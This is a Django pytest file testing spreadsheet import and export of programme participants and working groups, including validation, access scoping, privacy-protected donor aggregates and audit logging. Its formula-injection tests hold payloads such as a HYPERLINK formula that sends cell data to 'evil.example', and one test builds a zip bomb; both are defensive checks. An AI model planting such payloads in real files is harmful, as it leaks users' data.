"""Spreadsheet import and export of people and working groups (hamkori.people.importers, exports, views_io; hamkori.groups.exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from hamkori.core.models import AuditEvent
from hamkori.core.roles import Role
from hamkori.groups.models import Membership, WorkingGroup
from hamkori.groups.services import balance_policy_update, group_create, membership_add
from hamkori.kit import spreadsheets as people_io
from hamkori.people import importers
from hamkori.people.models import Person, Sector
from hamkori.programmes.models import Programme
from hamkori.vault.services import vault_get
from tests import factories

pytestmark = pytest.mark.django_db

HEADER = [
    "full_name", "sex", "birth_year", "age_band", "place", "sectors", "languages", "phone", "email", "address",
    "member_role", "sector_represented", "joined_on", "left_on",
]  # fmt: skip
TAJIK_NAME = "Ғуломҷон Қурбонов Ӯрунбоевич Ҳакимӣ"
TAJIK_ADDRESS = "ноҳияи Ванҷ, деҳаи Рованд, кӯчаи Ҳофизи Шерозӣ 45"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- helpers ---------------------------------------------------------------------------------------
def row(**values: Any) -> dict[str, Any]:
    base = {"sex": "female", "birth_year": "1990", "place": "TJ-GB-VANJ", "joined_on": "2019-01-15"}
    base.update(values)
    return base


def csv_bytes(rows: list[dict[str, Any]], header: list[str] = HEADER, delimiter: str = ",", bom: bool = True) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    for values in rows:
        writer.writerow([values.get(key, "") for key in header])
    return out.getvalue().encode("utf-8-sig" if bom else "utf-8")


def xlsx_bytes(rows: list[dict[str, Any]], header: list[str] = HEADER) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for values in rows:
        sheet.append([values.get(key) for key in header])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(
    client: Client,
    programme: Programme,
    name: str,
    content: bytes,
    group: WorkingGroup | None = None,
    content_type: str | None = None,
) -> Any:
    if content_type is None:
        content_type = XLSX_TYPE if name.lower().endswith(".xlsx") else "text/csv"
    data = {"file": SimpleUploadedFile(name, content, content_type=content_type), "group": group.pk if group else ""}
    return client.post(reverse("people_import", args=[programme.code]), data)


def errors_of(response: Any) -> list[tuple[int, str, str]]:
    result = response.context["result"]
    assert result is not None and not result.ok, "expected the import to be refused"
    return [(e.row, e.column, e.message) for e in result.errors]


def export(client: Client, programme: Programme, name: str, fmt: str, **params: str) -> Any:
    if fmt == "csv":
        params.setdefault("hxl", "1")  # the HXL row under the header (an XLSX has it on a sheet "HXL")
    return client.get(reverse(name, args=[programme.code, fmt]), params)


def csv_rows(response: Any) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"\xef\xbb\xbf"), "CSV exports start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response: Any, sheet: int = 0) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(r) for r in book.worksheets[sheet].iter_rows(values_only=True)]


@pytest.fixture
def vanj_group(programme: Programme, users: dict[str, Any], place: Callable[[str], Any]) -> WorkingGroup:
    return group_create(actor=users[Role.ADMIN], programme=programme, name="CWG Vanj", district=place("TJ-GB-VANJ"))


@pytest.fixture
def admin(users: dict[str, Any], client_for: Callable[[Any], Client]) -> Client:
    return client_for(users[Role.ADMIN])


@pytest.fixture
def partner(users: dict[str, Any], client_for: Callable[[Any], Client]) -> Client:
    return client_for(users[Role.PARTNER])


# --- template ----------------------------------------------------------------------------------------
def test_template_headers_follow_the_users_language(admin: Client, programme: Programme) -> None:
    csv_tg = admin.get(reverse("people_import_template", args=[programme.code, "csv"]), HTTP_ACCEPT_LANGUAGE="tg")
    assert csv_tg.status_code == 200
    assert csv_tg["Content-Type"].startswith("text/csv")
    header = csv_rows(csv_tg)
    assert len(header) == 1, "the CSV template is the header row and nothing else"
    assert "ҷинс" in header[0] and "соли таваллуд" in header[0]  # sex, year of birth in Tajik

    xlsx_tg = admin.get(reverse("people_import_template", args=[programme.code, "xlsx"]), HTTP_ACCEPT_LANGUAGE="tg")
    assert xlsx_tg.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx_tg.content))
    assert len(book.worksheets) == 2
    assert "ҷинс" in [c.value for c in book.worksheets[0][1]]
    help_values = {str(v) for r in book.worksheets[1].iter_rows(values_only=True) for v in r if v}
    assert {"TJ-GB-VANJ", "TJ-GB-VANJ-ROVAND", "TJ-SU-ISFARA-VORUKH"} <= help_values  # places and jamoats
    assert {"journalist", "u18", "chair", "pamiri"} <= help_values  # sectors, age bands, roles, languages
    assert "Рӯзноманигор" in help_values  # sector names in the user's language

    english = admin.get(reverse("people_import_template", args=[programme.code, "csv"]), HTTP_ACCEPT_LANGUAGE="en")
    assert "sex" in csv_rows(english)[0] and "ҷинс" not in csv_rows(english)[0]
    assert admin.get(reverse("people_import_template", args=[programme.code, "pdf"])).status_code == 404


def test_tajik_template_header_is_accepted_by_an_english_user(admin: Client, programme: Programme) -> None:
    header = csv_rows(
        admin.get(reverse("people_import_template", args=[programme.code, "csv"]), HTTP_ACCEPT_LANGUAGE="tg")
    )[0]
    line = {"ҷинс": "Зан", "соли таваллуд": "1985", "маҳал": "Ванҷ", "забонҳо": "Тоҷикӣ; Русский"}
    content = csv_bytes([{h: line.get(h, "") for h in header}], header=header)
    response = upload(admin, programme, "people.csv", content)
    assert response.status_code == 302, errors_of(response)
    person = Person.objects.get(programme=programme)
    assert (person.sex, person.birth_year, person.place.code) == ("female", 1985, "TJ-GB-VANJ")
    assert person.languages == ["tg", "ru"]


# --- import --------------------------------------------------------------------------------------
def test_csv_import_creates_people_and_memberships(
    admin: Client, programme: Programme, vanj_group: WorkingGroup
) -> None:
    rows = [
        row(full_name="Ҷамшед Раҳимов", sex="male", place="Рованд", sectors="elder; Журналист", languages="tg; ru",
            member_role="Chair", sector_represented="elder"),
        row(full_name="Malika Nazarova", sex="з", birth_year="", age_band="18–24", place="Vanch", sectors="teacher",
            member_role="секретарь", phone="+992 93 555 12 34", left_on="2019-06-30"),
        row(full_name="Ольга Ким", sex="Ж", place="Yazgulem", email="olga@example.tj", joined_on="08.03.2019"),
    ]  # fmt: skip
    response = upload(admin, programme, "people.csv", csv_bytes(rows, delimiter=";", bom=False), group=vanj_group)
    assert response.status_code == 302, errors_of(response)
    people = list(Person.objects.filter(programme=programme).order_by("code"))
    assert len(people) == 3
    assert [p.sex for p in people] == ["male", "female", "female"]
    assert people[0].place.code == "TJ-GB-VANJ-ROVAND"
    assert people[1].place.code == "TJ-GB-VANJ" and people[1].age_band == "18-24" and people[1].birth_year is None
    assert people[2].place.code == "TJ-GB-VANJ-YAZGHULOM"
    assert sorted(people[0].sectors.values_list("code", flat=True)) == ["elder", "journalist"]
    memberships = list(Membership.objects.filter(group=vanj_group).order_by("person__code"))
    assert [(m.role, m.joined_on, m.left_on) for m in memberships] == [
        ("chair", dt.date(2019, 1, 15), None),
        ("secretary", dt.date(2019, 1, 15), dt.date(2019, 6, 30)),
        ("member", dt.date(2019, 3, 8), None),
    ]
    assert memberships[0].sector == Sector.objects.get(code="elder")
    page = admin.get(response["Location"])
    assert "3 people imported" in page.content.decode() and "CWG Vanj" in page.content.decode()
    assert AuditEvent.objects.filter(action="person.import", summary__rows=3).exists()
    assert admin.get(response["Location"]).context["done"] is None, "the result is shown once"


def test_xlsx_import_by_partner(
    partner: Client, programme: Programme, vanj_group: WorkingGroup, orgs: dict[str, Any]
) -> None:
    rows = [
        row(full_name="Зарина Давлатова", birth_year=1988, phone="+992 (93) 555-12-34", joined_on=dt.date(2019, 2, 1)),
        row(full_name="Parviz Saidov", sex="m", birth_year=1995.0, place="Ҷовид", joined_on=dt.datetime(2019, 2, 2)),  # noqa: DTZ001 (Excel dates are naive)
    ]  # fmt: skip
    response = upload(partner, programme, "People.XLSX", xlsx_bytes(rows), group=vanj_group)
    assert response.status_code == 302, errors_of(response)
    people = list(Person.objects.filter(programme=programme).order_by("code"))
    assert [(p.birth_year, p.place.code) for p in people] == [(1988, "TJ-GB-VANJ"), (1995, "TJ-GB-VANJ-ZHOVID")]
    assert all(p.owner == orgs["lap"] for p in people), "a partner records on behalf of its organisation"
    assert sorted(Membership.objects.filter(group=vanj_group).values_list("joined_on", flat=True)) == [
        dt.date(2019, 2, 1), dt.date(2019, 2, 2)]  # fmt: skip
    stored = vault_get(actor=None, subject_key=people[0].vault_key, purpose="test")
    assert stored is not None and stored.phone == "+992 (93) 555-12-34"


def test_tajik_letters_round_trip_into_the_vault_and_out_in_exports(admin: Client, programme: Programme) -> None:
    rows = [row(full_name=TAJIK_NAME, address=TAJIK_ADDRESS, sectors="Рӯзноманигор", joined_on="")]
    response = upload(admin, programme, "одамон.csv", csv_bytes(rows))
    assert response.status_code == 302, errors_of(response)
    person = Person.objects.get(programme=programme)
    stored = vault_get(actor=None, subject_key=person.vault_key, purpose="test")
    assert stored is not None and (stored.full_name, stored.address) == (TAJIK_NAME, TAJIK_ADDRESS)

    table = csv_rows(export(admin, programme, "people_export", "csv"))
    assert table[1][0].startswith("#person+code"), "an HXL hashtag row follows the header"
    assert table[2][0] == person.code and TAJIK_NAME in table[2]
    sheet = xlsx_rows(export(admin, programme, "people_export", "xlsx"))
    assert sheet[1][0] == person.code and TAJIK_NAME in sheet[1]
    with_tajik = export(admin, programme, "people_export", "csv")
    assert "Рӯзноманигор" not in with_tajik.content.decode("utf-8-sig")  # English labels by default ...
    tg = admin.get(reverse("people_export", args=[programme.code, "csv"]), HTTP_ACCEPT_LANGUAGE="tg")
    assert "Рӯзноманигор" in tg.content.decode("utf-8-sig")  # ... and Tajik ones in Tajik


def test_one_bad_row_among_good_ones_imports_nothing(
    admin: Client, programme: Programme, vanj_group: WorkingGroup
) -> None:
    rows = [
        row(full_name="A One"),
        row(full_name="B Two", sex="unknown", sectors="astronaut", birth_year="1700"),
        row(full_name="C Three"),
    ]
    response = upload(admin, programme, "people.csv", csv_bytes(rows), group=vanj_group)
    assert response.status_code == 200
    errors = errors_of(response)
    assert {(r, c) for r, c, _m in errors} == {(3, "sex"), (3, "sectors"), (3, "year of birth")}, errors
    assert not Person.objects.filter(programme=programme).exists()
    assert not Membership.objects.exists()
    html = response.content.decode()
    assert "Nothing was imported" in html and "astronaut" in html


@pytest.mark.parametrize(
    ("values", "column", "message"),
    [
        ({"birth_year": "1850"}, "year of birth", "impossible age"),
        ({"birth_year": str(timezone.localdate().year + 1)}, "year of birth", "impossible age"),
        ({"birth_year": "nineteen"}, "year of birth", "four digits"),
        ({"birth_year": "1990", "age_band": "65+"}, "age band", "does not match"),
        ({"birth_year": ""}, "age band", "Give an age band or a year of birth"),
        ({"sectors": "elder; astronaut"}, "sectors", "Unknown: astronaut"),
        ({"languages": "klingon"}, "languages", "Unknown: klingon"),
        ({"place": "Atlantis"}, "place", "Unknown place"),
        ({"place": "TJ-DU"}, "place", "Unknown place"),  # Dushanbe is not one of the programme's places
        ({"sex": ""}, "sex", "Give the sex"),
        ({"email": "not-an-email"}, "email address", "valid email"),
        ({"phone": "call me"}, "phone", "digits"),
        ({"joined_on": "2019-05-01", "left_on": "2019-04-30"}, "left", "cannot end before it starts"),
        ({"joined_on": "1 May"}, "joined", "YYYY-MM-DD"),
        ({"joined_on": ""}, "joined", "Give the date"),
        ({"member_role": "president"}, "role", "Unknown role"),
    ],
)
def test_row_checks(
    admin: Client, programme: Programme, vanj_group: WorkingGroup, values: dict[str, str], column: str, message: str
) -> None:
    response = upload(admin, programme, "people.csv", csv_bytes([row(full_name="Good Row"), row(**values)]),
                      group=vanj_group)  # fmt: skip
    errors = errors_of(response)
    assert [(r, c) for r, c, _m in errors] == [(3, column)], errors
    assert message in errors[0][2]
    assert not Person.objects.exists()


def test_place_outside_the_partners_districts(partner: Client, programme: Programme) -> None:
    rows = [row(place="Vorukh", joined_on=""), row(place="TJ-SU-ISFARA", joined_on="")]
    errors = errors_of(upload(partner, programme, "people.csv", csv_bytes(rows)))
    assert [(r, c) for r, c, _m in errors] == [(2, "place"), (3, "place")]
    assert all("your own districts" in m for _r, _c, m in errors)
    assert not Person.objects.exists()


def test_membership_columns_need_a_group(admin: Client, programme: Programme) -> None:
    errors = errors_of(upload(admin, programme, "people.csv", csv_bytes([row(member_role="chair")])))
    assert {(r, c) for r, c, _m in errors} == {(2, "role"), (2, "joined")}


def test_the_same_person_twice(admin: Client, programme: Programme, vanj_group: WorkingGroup) -> None:
    rows = [
        row(full_name="Jamshed Rakhimov", joined_on="2019-01-01"),
        row(full_name="Bibi Sultonova"),
        row(full_name="Ҷамшед  Раҳимов", joined_on="2019-03-01", sex="male"),  # the same name in Cyrillic
    ]
    errors = errors_of(upload(admin, programme, "people.csv", csv_bytes(rows), group=vanj_group))
    assert [(r, c) for r, c, _m in errors] == [(4, "full name"), (4, "joined")]
    assert "row 2" in errors[0][2] and "overlaps" in errors[1][2]
    assert not Person.objects.exists()
    errors = errors_of(
        upload(admin, programme, "people.csv", csv_bytes([row(full_name="Jamshed Rakhimov", joined_on="")] * 2))
    )
    assert [(r, c) for r, c, _m in errors] == [(3, "full name")]


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("full_name", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("address", "+SUM(1,2)"),
        ("address", "-2+3"),
        ("full_name", "@SUM(A1)"),
        ("full_name", "\t=1+1"),
        ("address", "\r=1+1"),
        ("address", "  =1+1"),
        ("phone", "+992 93 =1"),
        ("phone", "=992935551234"),
        ("sectors", "-elder"),
    ],
)
def test_formulas_are_refused(admin: Client, programme: Programme, column: str, value: str) -> None:
    by_key = {c.key: c for c in importers.columns()}
    label = str(by_key[importers.aliases().get(column, column)].label)
    errors = errors_of(upload(admin, programme, "people.csv", csv_bytes([row(joined_on="", **{column: value})])))
    assert (2, label, "Formulas are not accepted: write the value itself.") in errors
    assert not Person.objects.exists()


def test_formula_cells_in_a_workbook_are_refused(admin: Client, programme: Programme) -> None:
    content = xlsx_bytes([row(joined_on=None, full_name='=HYPERLINK("http://evil.example","click")')])
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].data_type == "f"  # a real formula cell
    errors = errors_of(upload(admin, programme, "people.xlsx", content))
    assert errors == [(2, "full name", "Formulas are not accepted: write the value itself.")]
    assert not Person.objects.exists()


def test_phone_numbers_with_a_plus_are_not_formulas(admin: Client, programme: Programme) -> None:
    rows = [
        row(full_name="A", phone="+992 93 555 12 34", joined_on=""),
        row(full_name="B", phone="'+7 (912) 000-11-22", joined_on=""),
    ]
    response = upload(admin, programme, "people.csv", csv_bytes(rows))
    assert response.status_code == 302, errors_of(response)
    phones = [vault_get(actor=None, subject_key=p.vault_key, purpose="test").phone  # type: ignore[union-attr]
              for p in Person.objects.order_by("code")]  # fmt: skip
    assert phones == ["+992 93 555 12 34", "+7 (912) 000-11-22"]


@pytest.mark.parametrize(
    ("name", "content", "content_type", "message"),
    [
        (
            "people.xls",
            b"\xd0\xcf\x11\xe0 old excel",
            "application/vnd.ms-excel",
            "other kinds of file are not accepted",
        ),
        ("people.txt", b"full_name,sex\n", "text/plain", "other kinds of file are not accepted"),
        ("people.csv", b"sex,place\n" + b"x" * (5 * 1024 * 1024), "text/csv", "too large"),
        ("people.csv", b"\x89PNG\r\n", "image/png", "not an Excel workbook or a CSV file"),
        ("people.xlsx", b"this is not a zip", XLSX_TYPE, "could not be read"),
        ("people.xlsx", b"PK\x03\x04 truncated zip", XLSX_TYPE, "could not be read"),
        ("people.csv", "sex,place\nж,Ванч\n".encode("cp1251"), "text/csv", "UTF-8"),
        ("people.csv", b"nonsense,sex,place,birth_year\n", "text/csv", "unknown header nonsense"),
        ("people.csv", b"full_name,place,birth_year\n", "text/csv", "is missing"),
        ("people.csv", b"sex,place\n", "text/csv", "year of birth or for the age band"),
        ("people.csv", b"sex,place,birth_year,sex\n", "text/csv", "appears twice"),
    ],
)
def test_unsupported_or_oversized_files_are_refused(
    admin: Client, programme: Programme, name: str, content: bytes, content_type: str, message: str
) -> None:
    response = upload(admin, programme, name, content, content_type=content_type)
    assert response.status_code == 200
    result = response.context["result"]
    assert message in result.problem
    assert not Person.objects.exists()
    assert escape(result.problem) in response.content.decode()


def test_too_many_rows(admin: Client, programme: Programme) -> None:
    content = csv_bytes([row(joined_on="")] * (people_io.MAX_ROWS + 1))
    response = upload(admin, programme, "people.csv", content)
    assert "more than 5000 rows" in response.context["result"].problem
    assert not Person.objects.exists()


def test_import_and_template_are_closed_to_other_roles(
    users: dict[str, Any], client_for: Callable[[Any], Client], programme: Programme
) -> None:
    for role in (Role.DONOR, Role.GROUP_MEMBER, Role.LIAISON):
        client = client_for(users[role])
        assert client.get(reverse("people_import", args=[programme.code])).status_code == 403
        assert upload(client, programme, "p.csv", csv_bytes([row(joined_on="")])).status_code == 403
        assert client.get(reverse("people_import_template", args=[programme.code, "csv"])).status_code == 403
    assert not Person.objects.exists()


def test_import_page_lists_only_visible_groups(
    partner: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any], vanj_group: WorkingGroup
) -> None:
    isfara = group_create(
        actor=users[Role.ADMIN], programme=programme, name="CWG Isfara", district=place("TJ-SU-ISFARA")
    )
    page = partner.get(reverse("people_import", args=[programme.code]), {"group": vanj_group.pk})
    html = page.content.decode()
    assert "CWG Vanj" in html and "CWG Isfara" not in html
    assert page.context["form"].initial["group"] == vanj_group
    assert 'enctype="multipart/form-data"' in html
    # Posting a group the partner cannot see is refused by the form, and nothing is imported.
    response = upload(partner, programme, "p.csv", csv_bytes([row()]), group=isfara)
    assert response.status_code == 200 and "group" in response.context["form"].errors
    assert not Person.objects.exists()


# --- exports -------------------------------------------------------------------------------------
def test_partner_export_holds_only_vanj_people(
    partner: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any]
) -> None:
    admin_user, partner_user = users[Role.ADMIN], users[Role.PARTNER]
    vanj_by_lead = factories.person(programme, place("TJ-GB-VANJ"), actor=admin_user, name="Lead Recorded")
    vanj_by_partner = factories.person(
        programme, place("TJ-GB-VANJ-ROVAND"), actor=partner_user, name="Partner Recorded"
    )
    isfara = factories.person(programme, place("TJ-SU-ISFARA"), actor=admin_user, name="Isfara Person")
    for fmt in ("csv", "xlsx"):
        response = export(partner, programme, "people_export", fmt)
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"]
        table = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
        codes = [r[0] for r in table[2 if fmt == "csv" else 1 :]]
        assert codes == [vanj_by_lead.code, vanj_by_partner.code]
        flat = {str(v) for r in table for v in r if v}
        assert isfara.code not in flat and "Isfara Person" not in flat
        assert "Partner Recorded" in flat, "the partner sees names of the people its organisation recorded"
        assert "Lead Recorded" not in flat, "... and no one else's"
        assert "Rovand" in flat and "TJ-GB-VANJ-ROVAND" in flat


def test_export_neutralises_formula_like_values(
    admin: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any]
) -> None:
    person = factories.person(programme, place("TJ-GB-VANJ"), actor=users[Role.ADMIN], name="=1+1")
    group_create(actor=users[Role.ADMIN], programme=programme, name="+SUM(1)", district=place("TJ-GB-VANJ"))
    table = csv_rows(export(admin, programme, "people_export", "csv"))
    name_column = table[1].index("#contact+name")
    assert table[2][0] == person.code and table[2][name_column] == "'=1+1"
    sheet_response = export(admin, programme, "people_export", "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(sheet_response.content))
    cell = book.active.cell(row=2, column=name_column + 1)
    assert (cell.value, cell.data_type) == ("=1+1", "s"), "a string cell: never evaluated, no apostrophe"
    assert not any(c.data_type == "f" for r in book.active.iter_rows() for c in r)
    groups = csv_rows(export(admin, programme, "groups_export", "csv"))
    assert groups[2][0] == "'+SUM(1)"
    assert people_io.neutralise("-3") == "'-3" and people_io.neutralise("@x") == "'@x"
    assert people_io.neutralise("\tx") == "'\tx" and people_io.neutralise("Ванҷ") == "Ванҷ"


def test_groups_export(
    admin: Client,
    partner: Client,
    programme: Programme,
    users: dict[str, Any],
    place: Callable[[str], Any],
    vanj_group: WorkingGroup,
) -> None:
    actor = users[Role.ADMIN]
    balance_policy_update(
        actor=actor,
        programme=programme,
        women_target_percent=50,
        women_minimum_percent=40,
        youth_max_age=30,
        minimum_members=7,
        required_sectors=list(Sector.objects.filter(code__in=["police", "elder"])),
    )
    isfara = group_create(actor=actor, programme=programme, name="CWG Isfara", district=place("TJ-SU-ISFARA"))
    for sex in ("female", "male"):
        person = factories.person(programme, place("TJ-GB-VANJ"), actor=actor, sex=sex)
        membership_add(actor=actor, group=vanj_group, person=person, joined_on=dt.date(2019, 1, 1))
    gone = factories.person(programme, place("TJ-GB-VANJ"), actor=actor)
    membership_add(actor=actor, group=vanj_group, person=gone, joined_on=dt.date(2019, 1, 1),
                   left_on=dt.date(2019, 2, 1))  # fmt: skip
    table = csv_rows(export(admin, programme, "groups_export", "csv"))
    assert table[1][0] == "#group+name"
    by_name = {r[0]: r for r in table[2:]}
    assert set(by_name) == {"CWG Vanj", "CWG Isfara"}
    assert by_name["CWG Vanj"][1:5] == ["Cross-sectoral working group", "Vanj", "TJ-GB-VANJ", "Proposed"]
    assert by_name["CWG Vanj"][5:7] == ["2", "1"]  # members now, women now
    assert by_name[isfara.name][5:7] == ["0", "0"]
    assert by_name["CWG Vanj"][7] == "Elder; Police"  # the programme's required sectors not yet represented
    partner_rows = xlsx_rows(export(partner, programme, "groups_export", "xlsx"))
    assert [r[0] for r in partner_rows[1:]] == ["CWG Vanj"]


def test_donor_gets_only_protected_aggregates(
    users: dict[str, Any],
    client_for: Callable[[Any], Client],
    programme: Programme,
    place: Callable[[str], Any],
    vanj_group: WorkingGroup,
) -> None:
    actor = users[Role.ADMIN]
    people = []
    for place_code, sex, n in (("TJ-GB-VANJ-ROVAND", "female", 3), ("TJ-GB-VANJ", "male", 6),
                               ("TJ-SU-ISFARA", "female", 7), ("TJ-SU-ISFARA-VORUKH", "male", 5)):  # fmt: skip
        people += [
            factories.person(programme, place(place_code), actor=actor, sex=sex, name=f"Secret {sex} {i}")
            for i in range(n)
        ]
    for person in people[:2]:
        membership_add(actor=actor, group=vanj_group, person=person, joined_on=dt.date(2019, 1, 1))
    donor = client_for(users[Role.DONOR])
    table = csv_rows(export(donor, programme, "people_export", "csv", district="TJ-GB-VANJ"))
    assert table[0] == ["District", "Female", "Male", "Total"]
    assert table[1] == ["#adm2+name", "#population+f", "#population+m", "#population+total"]
    body = table[2 : table.index([]) if [] in table else None]
    by_district = {r[0]: r[1:] for r in body if r}
    assert set(by_district) == {"Vanj", "Isfara", "Total"}, "never finer than district (filters are ignored)"
    assert by_district["Vanj"][0] == "<5", "3 women in Vanj are shown as <5"
    truth = {"Vanj": [3, 6, 9], "Isfara": [7, 5, 12], "Total": [10, 11, 21]}
    for district, cells in by_district.items():
        for cell, true in zip(cells, truth[district], strict=True):
            # "<5" only for a count from 1 to 4; "x" for a cell hidden to protect another (never "<5").
            assert cell == str(true) or (cell == "<5" and 1 <= true <= 4) or (cell == "x" and true >= 5), (
                district,
                cells,
            )
    assert by_district["Vanj"][1] == "x", "6 men in Vanj are hidden to protect the 3 women: marked x, not <5"
    hidden = [cell for cells in by_district.values() for cell in cells if cell in ("<5", "x")]
    assert len(hidden) >= 2, "secondary suppression: a lone hidden cell would be recoverable from the totals"
    assert all(cell != "3" for cells in by_district.values() for cell in cells)
    content = export(donor, programme, "people_export", "xlsx").content
    sheet = xlsx_rows(export(donor, programme, "people_export", "xlsx"))
    assert sheet[1][0] == "Vanj" and sheet[1][1] == "<5"
    assert all(isinstance(v, int) or v in ("<5", "x") for v in sheet[2][1:4]), "published counts are numbers"
    everything = " ".join(" ".join(map(str, r)) for r in table) + content.decode("latin-1")
    assert not any(p.code in everything for p in people), "no person code reaches a donor"
    assert "Secret" not in everything
    members = csv_rows(export(donor, programme, "groups_export", "csv"))
    assert members[1][0] == "#adm2+name"
    vanj_members = next(r for r in members[2:] if r[0] == "Vanj")
    assert vanj_members[1] == "<5" and "CWG Vanj" not in str(members)
    events = AuditEvent.objects.filter(actor=users[Role.DONOR], action__in=["person.export", "workinggroup.export"])
    assert events.count() == 4 and all(e.summary["aggregate"] is True for e in events)


def test_exports_are_audited(
    admin: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any]
) -> None:
    for _i in range(2):
        factories.person(programme, place("TJ-GB-VANJ"), actor=users[Role.ADMIN], name="Someone")
    assert export(admin, programme, "people_export", "xlsx").status_code == 200
    assert export(admin, programme, "groups_export", "csv", sex="female").status_code == 200
    people_event = AuditEvent.objects.get(action="person.export")
    assert people_event.actor == users[Role.ADMIN] and people_event.programme == programme
    assert people_event.summary == {"format": "xlsx", "rows": 2, "aggregate": False}
    group_event = AuditEvent.objects.get(action="workinggroup.export")
    assert group_event.summary == {"format": "csv", "rows": 0, "aggregate": False}
    assert AuditEvent.objects.filter(action="vault.read", summary__purpose="export", summary__count=2).exists()
    assert export(admin, programme, "people_export", "pdf").status_code == 404
    assert export(admin, programme, "groups_export", "json").status_code == 404
    assert AuditEvent.objects.filter(action__endswith=".export").count() == 2


def test_export_honours_the_list_filters(
    admin: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any]
) -> None:
    actor = users[Role.ADMIN]
    woman = factories.person(programme, place("TJ-GB-VANJ"), actor=actor, sex="female")
    factories.person(programme, place("TJ-GB-VANJ"), actor=actor, sex="male")
    factories.person(programme, place("TJ-SU-ISFARA"), actor=actor, sex="female")
    table = csv_rows(export(admin, programme, "people_export", "csv", sex="female", district="TJ-GB-VANJ"))
    assert [r[0] for r in table[2:]] == [woman.code]
    assert AuditEvent.objects.get(action="person.export").summary["filters"] == {
        "sex": "female",
        "district": "TJ-GB-VANJ",
    }


def test_other_roles_cannot_export(
    users: dict[str, Any], client_for: Callable[[Any], Client], programme: Programme
) -> None:
    for role in (Role.GROUP_MEMBER, Role.LIAISON, "outsider"):
        client = client_for(users[role])
        expected = 404 if role == "outsider" else 403
        assert export(client, programme, "people_export", "csv").status_code == expected
        assert export(client, programme, "groups_export", "csv").status_code == expected
    assert not AuditEvent.objects.filter(action__endswith=".export", outcome="ok").exists()


def test_export_query_count_does_not_grow_with_rows(
    admin: Client, programme: Programme, users: dict[str, Any], place: Callable[[str], Any], vanj_group: WorkingGroup
) -> None:
    actor = users[Role.ADMIN]
    sectors = list(Sector.objects.all()[:2])

    def add(n: int) -> None:
        for i in range(n):
            person = factories.person(
                programme, place("TJ-GB-VANJ-ROVAND"), actor=actor, name=f"Person {i}", sectors=sectors
            )
            membership_add(actor=actor, group=vanj_group, person=person, joined_on=dt.date(2019, 1, 1))

    def count(fmt: str, name: str = "people_export") -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            response = export(admin, programme, name, fmt)
        assert response.status_code == 200
        return len(queries), len(response.content)

    add(3)
    few = {fmt: count(fmt) for fmt in ("csv", "xlsx")}
    few_groups = count("csv", "groups_export")
    add(27)
    many = {fmt: count(fmt) for fmt in ("csv", "xlsx")}
    assert {fmt: q for fmt, (q, _size) in few.items()} == {fmt: q for fmt, (q, _size) in many.items()}
    assert many["csv"][1] > few["csv"][1], "the 30-person export really holds more rows"
    assert count("csv", "groups_export")[0] == few_groups[0]
    assert len(csv_rows(export(admin, programme, "people_export", "csv"))) == 2 + 30


def test_a_zip_bomb_is_refused_before_it_is_opened(admin: Client, programme: Programme) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/sharedStrings.xml", b"\0" * (people_io.MAX_UNPACKED_BYTES + 1))
    assert len(out.getvalue()) < people_io.MAX_BYTES
    response = upload(admin, programme, "bomb.xlsx", out.getvalue())
    assert "too large" in response.context["result"].problem


# --- Consent in the import --------------------------------------------------------------------------
def test_the_import_records_participation_consent_with_the_person(
    programme: Programme, users: dict, client_for: Callable
) -> None:
    header = [*HEADER[:10], "consent_given_on", "consent_method"]  # no group: no membership columns
    content = csv_bytes(
        [
            row(full_name="Мадина Раҳимова", consent_given_on="2019-03-15", consent_method="шифоҳӣ"),
            row(full_name="Нилуфар Саидова", birth_year="1991"),
        ],
        header=header,
    )
    response = upload(client_for(users[Role.PARTNER]), programme, "people.csv", content)
    assert response.status_code in (200, 302), response.content[:300]
    result = response.context["result"] if response.context else None
    assert result is None or result.ok, [(e.row, e.column, e.message) for e in result.errors]
    with_consent, without = Person.objects.filter(programme=programme).order_by("code")
    consent = with_consent.consents.get()
    assert (consent.purpose, consent.given_on, consent.method) == ("participation", dt.date(2019, 3, 15), "verbal")
    assert not without.consents.exists()


def test_a_bad_consent_in_the_import_is_a_row_error_and_nothing_is_written(
    programme: Programme, users: dict, client_for: Callable
) -> None:
    header = [*HEADER[:10], "consent_given_on", "consent_method"]  # no group: no membership columns
    tomorrow = (timezone.localdate() + dt.timedelta(days=1)).isoformat()
    content = csv_bytes(
        [
            row(full_name="Мадина Раҳимова", consent_given_on="2019-03-15", consent_method="by pigeon"),
            row(full_name="Нилуфар Саидова", consent_given_on=tomorrow, consent_method="written"),
            row(full_name="Зебо Каримова", consent_method="written"),
        ],
        header=header,
    )
    response = upload(client_for(users[Role.PARTNER]), programme, "people.csv", content)
    columns = {(r, c) for r, c, _m in errors_of(response)}
    assert len(columns) == 3 and {r for r, _c in columns} == {2, 3, 4}
